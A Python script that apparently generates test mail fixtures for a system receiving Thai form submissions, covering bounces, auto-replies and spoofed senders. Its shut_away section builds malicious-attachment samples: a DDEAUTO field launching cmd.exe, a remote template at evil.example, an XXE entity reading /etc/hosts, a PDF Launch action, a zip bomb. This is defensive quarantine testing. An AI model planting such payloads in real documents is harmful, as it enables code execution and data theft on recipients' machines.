"""Makes files of tests/mail whose bytes are easier said in Python than written: `python tests/mail_cases.py`.

Invented people only. The `.json` beside each mail (facts, rule, what the message must hold) is written by hand.
"""

from __future__ import annotations

import base64
import io
import unicodedata
import zipfile
from pathlib import Path

from outlook_files import msg, tnef

FOLDER = Path(__file__).resolve().parent / "mail"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
GREETING = "เรียน เลขานุการ ส่งแบบตามแนบค่ะ"


def docx(**parts: bytes) -> bytes:
    """A small Word file; «__» in a name stands for «/», «_DOT_» for «.»."""
    out = io.BytesIO()
    plain = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
        b'ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        b"</Types>",
        "_rels/.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": document("แบบ"),
    }
    extra = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in parts.items()}
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (plain | extra).items():
            archive.writestr(zipfile.ZipInfo(name, (2023, 3, 14, 9, 0, 0)), data)
    return out.getvalue()


def document(text: str, *, top: str = "", body: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{top}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in files:
            archive.writestr(zipfile.ZipInfo(name, (2023, 3, 14, 9, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def overlapping() -> bytes:
    """A zip whose directory names one packed file twice: what is listed lies in the same bytes."""
    data = zipped(("a.docx", docx()))
    at = data.rindex(b"PK\x01\x02")
    entry, end = data[at : data.rindex(b"PK\x05\x06")], bytearray(data[data.rindex(b"PK\x05\x06") :])
    end[8:12] = b"\x02\x00\x02\x00"
    end[12:16] = (2 * len(entry)).to_bytes(4, "little")
    return data[:at] + entry + entry.replace(b"a.docx", b"b.docx") + bytes(end)


def pdf(extra: str = "") -> bytes:
    return f"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R{extra}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n".encode()


RTF = b"{\\rtf1\\ansi " + b"F3}"
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24


def auth(domain: str = "bfa.example", verdict: str = "pass") -> str:
    return f"Authentication-Results: practice-exchange.example;\r\n dmarc={verdict} action=none header.from={domain}"


def word(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def head(sender: str = "somying@bfa.example", name: str = "สมหญิง", *, subject: str = "Re: F3", extra: tuple[str, ...] = (),
         mark: str | None = "", message_id: str = "<m1@bfa.example>") -> str:  # fmt: skip
    lines = [mark or auth(sender.partition("@")[2])] if mark is not None else []
    lines += [f"From: {word(name)} <{sender}>" if name else f"From: {sender}", "To: songthan@office.example"]
    lines += [f"Subject: {subject if subject.isascii() else word(subject)}", "Date: Tue, 14 Mar 2023 09:00:00 +0700"]
    lines += [f"Message-ID: {message_id}"] if message_id else []
    return "\r\n".join([*lines, *extra, "MIME-Version: 1.0", ""])


def text_part(text: str, kind: str = "plain") -> str:
    coded = base64.encodebytes(text.encode()).decode().replace("\n", "\r\n")
    return f"Content-Type: text/{kind}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{coded}"


def file_part(name: str, data: bytes, kind: str = DOCX, disposition: str = "") -> str:
    coded = base64.encodebytes(data).decode().replace("\n", "\r\n")
    shown = disposition or f'attachment; filename="{name if name.isascii() else word(name)}"'
    return f"Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: {shown}\r\n\r\n{coded}"


def mail(top: str, *parts: str, kind: str = "multipart/mixed") -> bytes:
    if len(parts) == 1:
        return (top + parts[0]).encode()
    line = "\r\n--=_songthan\r\n"
    return (f'{top}Content-Type: {kind}; boundary="=_songthan"\r\n{line}' + line.join(parts) + "\r\n--=_songthan--\r\n").encode()


def with_file(file: str, data: bytes, kind: str = DOCX, text: str = GREETING, **more: object) -> bytes:
    return mail(head(**more), text_part(text), file_part(file, data, kind))  # type: ignore[arg-type]


def report(fields: str, *, subject: str, text: str = "ใบแจ้งการส่ง", sender: str = "postmaster@practice-exchange.example") -> bytes:
    top = head(sender, "", subject=subject, mark=None, extra=("Return-Path: <>",))
    status = f"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\n{fields}"
    ours = "Content-Type: text/rfc822-headers\r\n\r\nMessage-ID: <ours-1@office.example>\r\nSubject: x\r\n"
    return mail(top, text_part(text), status, ours, kind="multipart/report; report-type=delivery-status")


def words_only(text: str, *, subject: str, sender: str, name: str = "", extra: tuple[str, ...] = ()) -> bytes:
    return mail(head(sender, name, subject=subject, mark=None, extra=extra), text_part(text))


def cases() -> dict[str, bytes]:
    return notes() | accepted() | held() | shut_away()


def notes() -> dict[str, bytes]:
    qmail = ("Hi. This is the qmail-send program at mx.far.example.\nI'm afraid I wasn't able to deliver your message to the following "
             "addresses.\nThis is a permanent error; I've given up. Sorry it didn't work out.\n\n<gone@bfa.example>:\nSorry, no mailbox here "
             "by that name. (#5.1.1)\n\n--- Below this line is a copy of the message.\n\nReturn-Path: <songthan@office.example>\n"
             "From: songthan@office.example\nTo: gone@bfa.example\n")  # fmt: skip
    thai = ("ระบบไม่สามารถส่งจดหมายของท่านถึงผู้รับต่อไปนี้ได้\n\n    gone@bfa.example\n\nเหตุผล: ไม่พบผู้รับที่ปลายทาง\n"
            "หากมีข้อสงสัย โปรดติดต่อ helpdesk@far.example\n")  # fmt: skip
    later = ("This message was created automatically by mail delivery software.\nA message that you sent has not yet been delivered to all its "
             "recipients\nafter more than 24 hours on the queue.\n\nThe address to which the message has not yet been delivered is:\n\n"
             "  gone@bfa.example\n\nNo action is required on your part. Delivery attempts will continue for some time.\n")  # fmt: skip
    block = "Final-Recipient: rfc822; Gone@bfa.example\r\nAction: {}\r\nStatus: {}\r\n"
    away = "ขณะนี้ข้าพเจ้าลาพักผ่อนถึงวันที่ ๒๐ มีนาคม ๒๕๖๖ เรื่องเร่งด่วนโปรดติดต่อนายสมชาย"
    return {
        "bounce-words-only.eml": words_only(qmail, subject="failure notice", sender="MAILER-DAEMON@mx.far.example"),
        "bounce-thai-words.eml": words_only(thai, subject="ส่งจดหมายไม่สำเร็จ: แบบรายงาน", sender="postmaster@far.example", extra=("Return-Path: <>",)),
        "bounce-given-up-4xx.eml": report(block.format("failed", "4.4.7"), subject="Undeliverable: F3"),
        "bounce-delayed-words.eml": words_only(later, subject="Warning: message delayed 24 hours", sender="Mailer-Daemon@far.example", name="Mail Delivery System"),
        "bounce-quoted-by-a-member.eml": mail(head(subject="Undeliverable: F3", extra=("X-Failed-Recipients: gone@bfa.example",)), text_part("ค่ะ ส่งถึงคุณสมชายไม่ได้ ขึ้นแบบนี้\n\n" + qmail)),
        "delivery-receipt.eml": report(block.format("delivered", "2.0.0"), subject="Delivered: F3"),
        "recall.eml": mail(head(subject="เรียกคืน: แบบรายงาน"), text_part("สมหญิง ต้องการเรียกคืนข้อความ «แบบรายงาน»")),
        "duplicate.eml": with_file("F3.docx", docx()),
        "out-of-office-thai.eml": mail(head(subject="การตอบกลับอัตโนมัติ: ขอความอนุเคราะห์รายงาน", extra=("X-Auto-Response-Suppress: All",)), text_part(away)),
        "out-of-office-notes.eml": mail(head(subject="AUTO: Somying is out of the office (returning 20/03/2023)"), text_part(away)),
        "out-of-office-zimbra.eml": mail(head(extra=("Auto-Submitted: auto-replied (zimbra; vacation)", "Precedence: bulk")), text_part(away)),
    }  # fmt: skip


def accepted() -> dict[str, bytes]:
    name = "รายงานผลน้ำใจ ป่าไม้.docx"
    spread = name.replace("ำ", "ํา")
    raw = with_file("F3.docx", docx())
    return {
        "name-nfd.eml": mail(head(), text_part(GREETING), file_part(unicodedata.normalize("NFD", "café รายงาน.docx"), docx())),
        "name-decomposed-sara-am.eml": mail(head(), text_part(GREETING.replace("ส่ง", "นํ้าใจ ส่ง")), file_part(spread, docx())),
        "name-2047-tis-620.eml": raw.replace(b'"F3.docx"', b'"=?TIS-620?Q?' + b"".join(b"=%02X" % b for b in name.encode("cp874")) + b'?="'),
        "winmail-dat.eml": mail(head(), text_part("เรียน เลขานุการ ส่งแบบตามแนบค่ะ"), file_part("winmail.dat", tnef([("แบบรายงาน ไตรมาส ๒.docx", docx())]), "application/ms-tnef")),
        "winmail-dat-words-inside.eml": mail(head(), file_part("winmail.dat", tnef([("แบบรายงาน.docx", docx())], text="ส่งแบบตามแนบค่ะ"), "application/ms-tnef"), ""),
        "sent-from-outlook.msg": msg(headers=head() + "\r\n", text=GREETING, files=[("แบบรายงาน.docx", docx())]),
        "two-forms-of-one-owner.eml": mail(head(), text_part(GREETING), file_part("F3.docx", docx()), file_part("F4.docx", docx(word__document_DOT_xml=document("แบบ ๔")))),
        "repeated-message-id.eml": with_file("F3.docx", docx(), extra=("Message-ID: <m2@bfa.example>",)),
        "deputy.eml": with_file("F3.docx", docx(), sender="somchai@bfa.example", name="สมชาย"),
        "deputy-on-behalf.eml": with_file("F3.docx", docx(), extra=(f"Sender: {word('สมชาย')} <somchai@bfa.example>",)),
        "form-printed-to-pdf.eml": with_file("F3.pdf", pdf(), "application/pdf"),
        "form-from-libreoffice.eml": with_file("F3.docx", docx(docProps__app_DOT_xml=b"<Properties><Application>LibreOffice</Application></Properties>")),
        "last-quarters-thread-this-quarters-form.eml": with_file("F3.docx", docx(), extra=("In-Reply-To: <q1-request@office.example>",)),
        "late-form.eml": with_file("F3.docx", docx(), text="ขออภัยที่ส่งช้าค่ะ แบบตามแนบ"),
    }  # fmt: skip


def held() -> dict[str, bytes]:
    stranger, apart = "vichai@far.example", "somying.private@far.example"
    return {
        "forwarded-msg.eml": with_file("FW.msg", msg(headers="From: a@far.example\r\n\r\n", text="x"), "application/vnd.ms-outlook", text="ส่งต่อค่ะ"),
        "winmail-dat-cut.eml": mail(head(), text_part(GREETING), file_part("winmail.dat", tnef([("F3.docx", docx())])[:700], "application/ms-tnef")),
        "winmail-dat-with-a-mail.eml": mail(head(), text_part(GREETING), file_part("winmail.dat", tnef([], message=tnef([("F3.docx", docx())])), "application/ms-tnef")),
        "alias-of-a-member.eml": with_file("F3.docx", docx(), sender=apart, name="สมหญิง ใจดี"),
        "unregistered-deputy.eml": with_file("F3.docx", docx(), sender=stranger, name="วิชัย", text="ส่งแทนคุณสมหญิงครับ"),
        "colleague-with-anothers-form.eml": with_file("F3.docx", docx(), sender="somchai@bfa.example", name="สมชาย"),
        "shared-mailbox.eml": with_file("F3.docx", docx(), sender="planning@bfa.example", name="กลุ่มงานแผน"),
        "lookalike-domain.eml": with_file("F3.docx", docx(), sender="somying@bfaa.example"),
        "display-name-only.eml": mail(head("somying@free.example", "สมหญิง ใจดี", subject="ด่วน"), text_part("ขอแบบที่กรอกแล้วของทุกท่านด้วยค่ะ")),
        "last-quarters-form.eml": with_file("F3.docx", docx()),
        "old-version.eml": with_file("F3.docx", docx()),
        "two-unequal-copies.eml": mail(head(), text_part(GREETING), file_part("F3.docx", docx()), file_part("F3 แก้.docx", docx(word__document_DOT_xml=document("แก้")))),
        "low-confidence-pdf.eml": with_file("F3.pdf", pdf(), "application/pdf"),
        "after-freeze.eml": with_file("F3.docx", docx(), text="ขอส่งฉบับแก้ไขค่ะ"),
        "converted-odt.eml": with_file("F3.odt", zipped(("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>")), "application/vnd.oasis.opendocument.text"),
        "converted-rtf.eml": with_file("F3.rtf", RTF, "application/rtf"),
        "question.eml": mail(head(), text_part("เรียน เลขานุการ ช่อง ๒.๑ ให้นับถึงเดือนใดคะ")),
        "seven-zip.eml": with_file("F3.7z", SEVEN_ZIP, "application/x-7z-compressed"),
        "pages.eml": with_file("F3.pages", zipped(("Index/Document.iwa", b"x"), ("Metadata/Properties.plist", b"x")), "application/octet-stream"),
        "half-of-a-form.eml": with_file("F3 ส่วนที่ ๑.docx", docx(), text="ส่งหน้าแรกก่อนนะคะ หน้าที่เหลือจะตามไป"),
        "member-says-more.eml": mail(head(), text_part("วันนี้ประชุมช่วงบ่าย เอกสารกำลังรวบรวมอยู่")),
    }  # fmt: skip


def shut_away() -> dict[str, bytes]:
    field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r>'
             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')  # fmt: skip
    template = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                b'TargetMode="External"/></Relationships>')  # fmt: skip
    return {
        "docx-with-ole-object.eml": with_file("F3.docx", docx(word__embeddings__oleObject1_DOT_bin=OLE_HEAD + b"\x00" * 504)),
        "docx-with-remote-template.eml": with_file("F3.docx", docx(word___rels__document_DOT_xml_DOT_rels=template)),
        "docx-with-dde.eml": with_file("F3.docx", docx(word__document_DOT_xml=document("แบบ", body=field))),
        "docx-with-doctype.eml": with_file("F3.docx", docx(word__document_DOT_xml=document("แบบ", top='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hosts">]>'))),
        "pdf-with-launch.eml": with_file("F3.pdf", pdf("/OpenAction<</S/Launch/F(calc.exe)>>"), "application/pdf"),
        "pdf-with-embedded-file.eml": with_file("F3.pdf", pdf("/Names<</EmbeddedFiles<</Names[(a)<</EF<</F 9 0 R>>>>]>>>>"), "application/pdf"),
        "zip-bomb.eml": with_file("F3.zip", zipped(("F3.docx", b"\x00" * (22 << 20))), "application/zip"),
        "zip-overlapping.eml": with_file("F3.zip", overlapping(), "application/zip"),
        "winmail-dat-with-macro.eml": mail(head(), text_part(GREETING), file_part("winmail.dat", tnef([("F3.docx", docx(word__vbaProject_DOT_bin=OLE_HEAD))]), "application/ms-tnef")),
    }  # fmt: skip


if __name__ == "__main__":
    for file_name, content in cases().items():
        (FOLDER / file_name).write_bytes(content)
